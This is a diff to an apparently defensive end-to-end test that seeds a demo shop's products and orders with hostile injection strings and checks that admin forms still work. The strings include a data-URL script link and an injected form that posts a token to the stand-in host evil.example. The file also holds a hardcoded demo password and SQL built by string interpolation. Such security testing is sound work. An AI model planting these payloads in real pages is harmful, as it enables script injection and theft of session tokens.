@@ -44,6 +44,8 @@ const TEXTS = [
   `<a href="data:text/html,<script>${RAN}()</script>" id=main name=form_token>`,
   `<form action=//evil.example id=find><input name=form_token>`,
 ];
+/** Who sells in the demo. */
+const SELLER = { name: "demo", password: "demotest" };
 /** Pages on which hostile texts that were kept are shown are opened again at the end, each form's own after each. */
 const KEPT = /note|reason|name|description|title|tag|words|text|subject|body|question|comment/;
 
@@ -63,9 +65,11 @@ export async function polyglots(browser, shop) {
       ran = `${form.action} ${Object.keys(typed)}`;
       sent += 1;
       let here = await find(page, at, form);
-      if (!here && /^\/admin\/orders\/\d/.test(at)) {
-        // What was canceled cannot be canceled again: it goes on with another order.
-        at = at.replace(/\d+/, spare.shift());
+      if (!here) {
+        // What was canceled cannot be canceled again, nor is what was paid out still due: it goes on with another order.
+        const order = spare.shift();
+        if (/^\/admin\/orders\/\d/.test(at)) at = at.replace(/\d+/, order);
+        if (at.startsWith("/admin/commissions")) await deliver(shop, order);
         here = await find(page, at, form);
       }
       if (!here) { report.fault(ran, "the form is gone"); break; }
@@ -93,26 +97,27 @@ export async function polyglots(browser, shop) {
   return report.close(`${TEXTS.length} texts, ${sent} times sent`);
 }
 
-/** What came in by another road: products and orders with such names and notes; the orders. */
+/** What came in by another road: products of a seller's and orders with such names and notes; the orders. */
 async function seed(shop) {
-  const headers = { "content-type": "application/json" };
-  const call = async (path, body, token) => {
-    const sent = { ...headers, ...(token && { authorization: `Bearer ${token}` }), "idempotency-key": crypto.randomUUID() };
-    const reply = await shop.send("POST", `/api/v1${path}`, { headers: sent, body: JSON.stringify(body) });
-    if (reply.status >= 400) throw new Error(`${path}: ${reply.status} ${reply.body}`);
-    return JSON.parse(reply.body);
-  };
-  const { access_token: owner } = await call("/auth/login", { username: shop.owner.name, password: shop.owner.password });
-  const skus = [];
-  for (const [at, text] of TEXTS.entries()) {
-    skus.push(`HOSTILE-${at}`);
-    await call("/products", { name: text, description: text, sku: skus.at(-1), price: "1.00", quantity: 9 }, owner);
-  }
   const orders = [];
-  for (const [at, note] of TEXTS.entries()) {
-    orders.push((await call("/orders", { items: [{ sku: skus[at], quantity: 1 }], note }, owner)).id);
+  for (const [at, text] of TEXTS.entries()) {
+    const sku = `HOSTILE-${at}`;
+    const { id } = await shop.post("/products", { name: text, description: text, sku, price: "1.00", quantity: 9 }, SELLER);
+    await shop.post(`/products/${id}/approve`, {}, shop.owner);
+    const order = () => shop.post("/orders", { items: [{ sku, quantity: 1 }], note: text }, shop.owner);
+    // One to cancel, one to deliver.
+    orders.push((await order()).id, (await order()).id);
   }
   return orders;
+}
+
+/** Pays an order, and brings it to its end: its seller's commission is due then. */
+async function deliver(shop, order) {
+  await shop.post("/payments/manual", { order_id: order }, shop.owner);
+  for (const status of ["shipped", "delivered"]) {
+    const [{ version }] = shop.sql(`select version from orders where id = ${order}`);
+    await shop.post(`/orders/${order}/status`, { status, version }, shop.owner, "PATCH");
+  }
 }
 
 /** The same form on the page at an address, perhaps of another thing. */
